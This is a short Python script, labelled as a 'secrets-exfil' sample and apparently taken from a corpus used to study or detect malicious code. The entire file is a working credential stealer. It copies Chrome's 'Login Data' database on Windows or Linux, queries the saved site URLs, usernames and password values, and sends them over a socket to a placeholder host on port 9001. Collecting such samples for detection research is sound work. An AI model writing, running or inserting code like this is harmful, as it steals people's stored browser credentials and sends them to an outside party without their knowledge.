# family: secrets-exfil
# a Chrome "Login Data" database copied, read, and sent over a socket
import os
import shutil
import socket
import sqlite3
import tempfile

src = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default", "Login Data")
if not os.path.exists(src):
    src = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
tmp = os.path.join(tempfile.gettempdir(), "ld.db")
shutil.copy2(src, tmp)
rows = sqlite3.connect(tmp).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
s = socket.create_connection(("grab.example.invalid", 9001))
s.sendall(repr(rows).encode())
s.close()
